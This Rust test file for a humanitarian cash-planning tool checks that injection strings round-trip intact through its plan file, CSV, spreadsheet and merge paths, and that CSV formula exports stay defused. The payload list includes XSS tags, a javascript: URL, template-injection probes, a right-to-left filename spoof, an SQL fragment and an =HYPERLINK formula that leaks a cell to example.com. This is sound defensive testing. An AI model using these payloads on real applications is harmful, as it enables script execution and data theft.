//! Nothing injected, everything kept: text built to attack a page, a template engine, a
//! spreadsheet or a reader (`<img onerror>`, `javascript:`, `{{7*7}}`, formulas, right-to-left
//! overrides, quotes, very long strings) put into every free-text field of every record
//! kind — found through the registry, so a new kind is tried without editing this file —
//! comes back exactly as typed through the plan file, HXL CSV, the workbook and a merge,
//! and every CSV export keeps formulas defused; a property test does the same with random
//! text.
//!
//! The plan it builds is also written to `tests/fixtures/injection/` for the browser journey
//! (`tests/e2e/injection.test.mjs`), which opens it, imports its files and visits every
//! page. When the registry or the exports change, the test says so; write the fixtures
//! again with `CASHPLAN_BLESS=1 cargo test --test injection`. The same hostile rows go to
//! the spreadsheet importer as `.xlsx`, `.xlsb` and `.ods` (written here by the test
//! builders) and `.xls` (no Rust writer exists: `tests/fixtures/injection/make-xls.py`
//! writes it from `hostile-sheet-xls.csv` with xlwt; this test reads it back).

mod sheet_builders;

use cashplan::engine::merge::preview_merge;
use cashplan::formats::hxl::{read_many, write_table, TableKind};
use cashplan::formats::planfile::{read_plan_file, write_plan_file};
use cashplan::formats::reports::gaps::gaps_hxl;
use cashplan::formats::reports::{harmonise_hxl, overlaps_hxl};
use cashplan::formats::sheet::{plan_workbook, prepare, propose_mapping, read_table, SheetOptions};
use cashplan::formats::xlsx::write_xlsx;
use cashplan::model::boundary::{BoundaryFeature, Ring, Shape};
use cashplan::model::rules::ValueType;
use cashplan::model::{IsoDate, Kind, Plan, Stamp, Table, TableName, TableVisitor, TableVisitorMut};
use serde_json::Value;
use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};

/// One record of each kind per string, with every free-text field set to it.
const HOSTILE: &[&str] = &[
    "<img src=x onerror=alert(1)>",
    "<script>alert('cashplan')</script></td></tr><b>bold</b>",
    "javascript:alert(document.domain)",
    "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "\u{202E}gnp.exe \u{2067}عربي\u{2069} mixed direction",
    "=HYPERLINK(\"http://example.com/?leak=\"&A1,\"Click\")",
    "+SUM(1,2)",
    "@cmd",
    "-2+3 e-vouchers",
    "\"Quoted\", commas, semi;colons \\ back\\slash ' OR 1=1 --",
];

/// A very long value: what a pasted document does to a cell, a table and a file.
fn long_text() -> String {
    format!("{}the end", "Long text without a break ".repeat(400))
}

fn stamp() -> Stamp {
    Stamp { at: "2024-05-01T00:00:00Z".into(), by: "injection test".into() }
}

fn fixture(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures").join(name)
}

/// A plan with at least one record of every kind, from the HXL fixtures.
fn base_plan() -> Plan {
    let plan = Plan::new("p-injection", "Injection <b>test</b>", "SYR", "USD", &stamp());
    let files: Vec<(String, String)> = ["areas", "needs", "activities", "standards", "meb", "rates"]
        .iter()
        .map(|name| {
            let file = format!("{name}.csv");
            (file.clone(), std::fs::read_to_string(fixture(&format!("hxl/{file}"))).unwrap())
        })
        .collect();
    let mut plan = plan;
    for batch in read_many(&files, &plan).unwrap() {
        batch.apply(&mut plan, &stamp());
    }
    let ring = Ring::from_points(&[(361_000, 362_000), (362_000, 362_000), (362_000, 363_000), (361_000, 362_000)]);
    let boundary = BoundaryFeature {
        pcode: "SY02".into(),
        level: 1,
        parent: None,
        names: [("en".to_string(), "Aleppo".to_string())].into(),
        shape: Shape { polygons: vec![vec![ring]] },
        source: "syr_adm1.geojson".into(),
    };
    plan.boundaries.upsert("SY02", boundary, &stamp());
    plan
}

/// Sets a field by its key (`transfer.value` is a path) to `text`: a list gets it as its
/// one item, a map of names as the Arabic name. A field left out of the JSON when empty
/// takes the first shape the record accepts.
fn set<K: Kind>(json: &mut Value, key: &str, text: &str) {
    let pointer = format!("/{}", key.replace('.', "/"));
    let (parent, leaf) = pointer.rsplit_once('/').unwrap();
    let string = Value::String(text.to_string());
    let names = Value::Object([("ar".to_string(), string.clone())].into_iter().collect());
    let list = Value::Array(vec![string.clone()]);
    let shapes = match json.pointer(&pointer) {
        Some(Value::Array(_)) => vec![list],
        Some(Value::Object(_)) => vec![names],
        Some(_) => vec![string],
        None => vec![string, list, names],
    };
    for shape in shapes {
        let mut candidate = json.clone();
        let object = candidate.pointer_mut(parent).and_then(Value::as_object_mut);
        object.unwrap_or_else(|| panic!("field {key} is not in the record's JSON")).insert(leaf.to_string(), shape);
        if serde_json::from_value::<K>(candidate.clone()).is_ok() {
            *json = candidate;
            return;
        }
    }
    panic!("{} {key}: no shape of text is accepted", K::SINGULAR);
}

/// Adds, to every table, one record per hostile string with every free-text field set to it.
struct AddHostile {
    texts: Vec<String>,
    fields_tried: BTreeMap<TableName, Vec<&'static str>>,
}

impl TableVisitorMut for AddHostile {
    fn visit<K: Kind>(&mut self, table: &mut Table<K>) {
        let fields: Vec<_> = K::FIELDS.iter().filter(|f| f.value.is_free_text()).collect();
        if fields.is_empty() {
            return;
        }
        let sample = table
            .live()
            .next()
            .unwrap_or_else(|| {
                panic!("the base plan has no {}: add one to base_plan() so its fields are tried", K::PLURAL)
            })
            .data
            .clone();
        for (n, text) in self.texts.iter().enumerate() {
            let mut json = serde_json::to_value(&sample).unwrap();
            for field in &fields {
                set::<K>(&mut json, field.key, text);
            }
            let record: K = serde_json::from_value(json).unwrap();
            for field in fields.iter().filter(|f| f.value == ValueType::Text) {
                assert_eq!(record.field_text(field.key), *text, "{} {}", K::SINGULAR, field.key);
            }
            let id = record.natural_id().unwrap_or_else(|| format!("hostile-{}-{n}", K::SINGULAR));
            table.upsert(&id, record, &stamp());
        }
        self.fields_tried.insert(K::TABLE, fields.iter().map(|f| f.key).collect());
    }
}

/// Per table, the free-text fields of every live record as people read them.
struct TextsOf(BTreeMap<TableName, BTreeSet<Vec<String>>>);

impl TableVisitor for TextsOf {
    fn visit<K: Kind>(&mut self, table: &Table<K>) {
        let fields: Vec<_> = K::FIELDS.iter().filter(|f| f.value.is_free_text()).collect();
        let texts = table.live().map(|r| fields.iter().map(|f| r.data.field_text(f.key)).collect()).collect();
        self.0.insert(K::TABLE, texts);
    }
}

fn texts_of(plan: &Plan) -> BTreeMap<TableName, BTreeSet<Vec<String>>> {
    let mut texts = TextsOf(BTreeMap::new());
    plan.visit(&mut texts);
    texts.0
}

fn hostile_plan() -> (Plan, BTreeMap<TableName, Vec<&'static str>>) {
    plan_with(HOSTILE.iter().map(|t| t.to_string()).chain([long_text()]).collect())
}

/// The base plan with one more record of each kind per text, every free-text field set to it.
fn plan_with(texts: Vec<String>) -> (Plan, BTreeMap<TableName, Vec<&'static str>>) {
    let mut plan = base_plan();
    let mut adding = AddHostile { texts, fields_tried: BTreeMap::new() };
    plan.visit_mut(&mut adding);
    (plan, adding.fields_tried)
}

/// Asserts that every hostile record's texts are in `found` for the tables given.
fn assert_kept(path: &str, original: &Plan, found: &Plan, tables: &[TableName]) {
    let (want, got) = (texts_of(original), texts_of(found));
    for table in tables {
        let short = |texts: &Vec<String>| texts.iter().map(|t| t.chars().take(60).collect()).collect::<Vec<String>>();
        let missing: Vec<_> = want[table].difference(&got[table]).map(short).collect();
        let near: Vec<_> = got[table].difference(&want[table]).map(short).take(3).collect();
        assert!(
            missing.is_empty(),
            "{path}, {}: not kept as typed: {missing:#?}\nfound instead: {near:#?}",
            table.plural()
        );
    }
}

const HXL_TABLES: [(TableKind, TableName); 6] = [
    (TableKind::Areas, TableName::Areas),
    (TableKind::Needs, TableName::Needs),
    (TableKind::Activities, TableName::Activities),
    (TableKind::Standards, TableName::Standards),
    (TableKind::Mebs, TableName::Mebs),
    (TableKind::ExchangeRates, TableName::ExchangeRates),
];

#[test]
fn every_free_text_field_of_every_kind_is_tried() {
    let (_, tried) = hostile_plan();
    let mut with_text = Vec::new();
    for &name in TableName::ALL {
        if name.fields().iter().any(|f| f.value.is_free_text()) {
            with_text.push(name);
        }
    }
    assert_eq!(tried.keys().copied().collect::<Vec<_>>(), with_text);
    assert!(tried[&TableName::Activities].contains(&"description"));
}

#[test]
fn hostile_text_survives_the_plan_file_and_a_merge() {
    let (plan, _) = hostile_plan();
    let text = write_plan_file(&plan, "injection test", "2024-05-01T00:00:00Z").unwrap();
    let read = read_plan_file("hostile.cashplan.json", &text).unwrap();
    assert_eq!(read, plan);
    let (merged, _) = preview_merge(&base_plan(), &plan);
    assert_kept("merge", &plan, &merged, TableName::ALL);
}

#[test]
fn hostile_text_survives_hxl_csv_and_the_exports_stay_defused() {
    assert_hxl_keeps(&hostile_plan().0);
}

fn assert_hxl_keeps(plan: &Plan) {
    let files: Vec<(String, String)> =
        HXL_TABLES.iter().map(|(kind, _)| (kind.file_name(), write_table(plan, *kind))).collect();
    for (file, text) in &files {
        assert_defused(file, text);
    }
    let mut imported = Plan::new("p-injection", "Injection", "SYR", "USD", &stamp());
    for batch in read_many(&files, &imported).unwrap_or_else(|e| panic!("{e}")) {
        batch.apply(&mut imported, &stamp());
    }
    assert_kept("HXL CSV", plan, &imported, &HXL_TABLES.map(|(_, name)| name));
    for (name, text) in reports(plan) {
        assert_defused(&name, &text);
    }
}

#[test]
fn hostile_text_survives_the_workbook() {
    assert_workbook_keeps(&hostile_plan().0);
}

fn assert_workbook_keeps(plan: &Plan) {
    let sheets = plan_workbook(plan, IsoDate::new(2024, 5, 1).unwrap(), None);
    let bytes = write_xlsx(&sheets).unwrap();
    let mut imported = Plan::new("p-injection", "Injection", "SYR", "USD", &stamp());
    for sheet in ["Areas", "People in need", "Activities (5W)", "Standards", "MEB", "Exchange rates"] {
        let raw = read_table("hostile.xlsx", &bytes, Some(sheet)).unwrap_or_else(|e| panic!("{sheet}: {e}"));
        let mapping = propose_mapping(&raw);
        let options = SheetOptions { create_areas: false, skip_bad_rows: false };
        let import = prepare(&raw, &mapping, &imported, &options).unwrap_or_else(|e| panic!("{sheet}: {e}"));
        for batch in import.batches {
            batch.apply(&mut imported, &stamp());
        }
    }
    assert_kept("workbook", plan, &imported, &HXL_TABLES.map(|(_, name)| name));
}

/// The reports' CSV: names of areas and organisations travel into them too.
fn reports(plan: &Plan) -> Vec<(String, String)> {
    use cashplan::engine::gaps::{analyse, GapQuery};
    use cashplan::engine::harmonise::{harmonise, overlaps, HarmoniseQuery};
    let today = IsoDate::new(2024, 5, 1).unwrap();
    vec![
        ("gaps.csv".into(), gaps_hxl(&analyse(plan, &GapQuery::default()))),
        ("harmonisation.csv".into(), harmonise_hxl(&harmonise(plan, &HarmoniseQuery { level: None, today }))),
        ("overlaps.csv".into(), overlaps_hxl(&overlaps(plan), plan)),
    ]
}

/// No data cell starts like a formula unless it is a number or carries the apostrophe.
fn assert_defused(file: &str, text: &str) {
    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    let tags_at = rows.iter().position(|r| r.iter().next().is_some_and(|c| c.starts_with('#'))).unwrap();
    let mut formulas = 0;
    for (line, row) in rows.iter().enumerate().skip(tags_at + 1) {
        for cell in row.iter() {
            let risky = cell.starts_with(['=', '+', '-', '@']) && cell.trim().parse::<f64>().is_err();
            assert!(!risky, "{file}, line {}: {cell:?} would run as a formula", line + 1);
            formulas += usize::from(cell.starts_with("'="));
        }
    }
    if file.starts_with("activities") && text.contains("HYPERLINK") {
        assert!(formulas > 0, "{file}: the formula text was exported (defused)");
    }
}

/// The spreadsheet formats the browser journey imports the hostile rows from.
const SHEET_FORMATS: [&str; 4] = ["xlsx", "xlsb", "ods", "xls"];

/// A partner's sheet with every hostile text as organisation and description, the
/// description marked with the file's format so the journey finds each file's rows.
fn hostile_sheet_rows(format: &str) -> Vec<Vec<String>> {
    let mut rows: Vec<Vec<String>> = vec![
        ["Organisation", "Sector", "Area", "What"].map(String::from).to_vec(),
        ["#org+prog", "#sector", "#adm1+code", "#activity"].map(String::from).to_vec(),
    ];
    for text in HOSTILE.iter().map(|t| t.to_string()).chain([long_text()]) {
        rows.push(vec![text.clone(), "FSC".into(), "SY01".into(), format!("{text} [{format}]")]);
    }
    rows
}

/// The hostile sheet as a file of `format` (xls: the CSV make-xls.py writes it from).
fn hostile_sheet(format: &str) -> (String, Vec<u8>) {
    let rows = hostile_sheet_rows(format);
    let borrowed: Vec<Vec<&str>> = rows.iter().map(|r| r.iter().map(String::as_str).collect()).collect();
    match format {
        "xlsx" => {
            let cells: Vec<(usize, usize, &str)> = borrowed
                .iter()
                .enumerate()
                .flat_map(|(r, row)| row.iter().enumerate().map(move |(c, t)| (r, c, *t)))
                .collect();
            let sheet = sheet_builders::sheet_data(&cells);
            ("hostile-sheet.xlsx".into(), sheet_builders::xlsx_raw("Partner 5W", &sheet, None))
        }
        "xlsb" => ("hostile-sheet.xlsb".into(), sheet_builders::xlsb("Partner 5W", &borrowed)),
        "ods" => {
            let body = sheet_builders::ods_rows(&borrowed);
            ("hostile-sheet.ods".into(), sheet_builders::ods_raw("Partner 5W", &body))
        }
        _ => {
            let mut writer = csv::Writer::from_writer(Vec::new());
            rows.iter().for_each(|row| writer.write_record(row).unwrap());
            ("hostile-sheet-xls.csv".into(), writer.into_inner().unwrap())
        }
    }
}

/// Every spreadsheet fixture reads back as the hostile rows, through the app's own reader
/// (the .xls too, which Python writes); written again with CASHPLAN_BLESS=1.
#[test]
fn the_hostile_spreadsheets_hold_every_text_as_typed() {
    let dir = fixture("injection");
    let bless = std::env::var_os("CASHPLAN_BLESS").is_some();
    for format in SHEET_FORMATS {
        let (name, bytes) = hostile_sheet(format);
        if bless {
            std::fs::write(dir.join(&name), &bytes).unwrap();
        }
        let file = if format == "xls" { "hostile-sheet.xls".to_string() } else { name };
        let stored = std::fs::read(dir.join(&file)).unwrap_or_else(|e| {
            panic!("{file}: {e}; write it with CASHPLAN_BLESS=1 cargo test --test injection (xls: make-xls.py)")
        });
        let table = read_table(&file, &stored, None).unwrap_or_else(|e| panic!("{file}: {e}"));
        let rows = hostile_sheet_rows(format);
        assert_eq!((&table.headers, &table.tags), (&rows[0], &rows[1]), "{file}");
        let read: Vec<&Vec<String>> = table.rows.iter().map(|r| &r.cells).collect();
        let want: Vec<&Vec<String>> = rows[2..].iter().collect();
        assert_eq!(
            read,
            want,
            "{file} does not hold the hostile rows; write it again with CASHPLAN_BLESS=1 cargo test --test injection{}",
            if format == "xls" { " then python3 tests/fixtures/injection/make-xls.py" } else { "" }
        );
    }
}

/// The fixtures the browser journey uses, written from the same plan.
#[test]
fn the_browser_journeys_fixtures_are_this_plan() {
    let (plan, _) = hostile_plan();
    let mut files: Vec<(String, Vec<u8>)> = vec![(
        "hostile.cashplan.json".into(),
        write_plan_file(&plan, "injection test", "2024-05-01T00:00:00Z").unwrap().into(),
    )];
    for (kind, _) in HXL_TABLES {
        files.push((format!("hostile-{}", kind.file_name()), write_table(&plan, kind).into_bytes()));
    }
    let dir = fixture("injection");
    let bless = std::env::var_os("CASHPLAN_BLESS").is_some();
    if bless {
        std::fs::create_dir_all(&dir).unwrap();
    }
    for (name, bytes) in files {
        let path = dir.join(&name);
        if bless {
            std::fs::write(&path, &bytes).unwrap();
        } else {
            let stored = std::fs::read(&path).unwrap_or_default();
            assert!(
                stored == bytes,
                "{} is not what the registry and the exports give now; write it again with CASHPLAN_BLESS=1 cargo test --test injection",
                path.display()
            );
        }
    }
}

// Any text, not only the list above: random strings with formula starts, quotes, separators,
// HTML, Arabic and direction marks in every free-text field of every kind come back exactly
// through the plan file, HXL CSV and the workbook.
proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig { cases: 12, ..Default::default() })]
    #[test]
    fn any_text_in_every_free_text_field_round_trips(
        texts in proptest::collection::vec(
            r"[=+@-]?[A-Za-z\x{0621}-\x{064A}<>&\x{202E}][A-Za-z0-9 ,;:\x{22}'<>/&\\\x{0621}-\x{064A}\x{200F}\x{202E}#{}()=+-]{0,24}[A-Za-z0-9\x{0621}-\x{064A}>;]",
            1..4,
        )
    ) {
        let (plan, _) = plan_with(texts);
        let text = write_plan_file(&plan, "injection test", "2024-05-01T00:00:00Z").unwrap();
        proptest::prop_assert_eq!(&read_plan_file("any.cashplan.json", &text).unwrap(), &plan);
        assert_hxl_keeps(&plan);
        assert_workbook_keeps(&plan);
    }
}
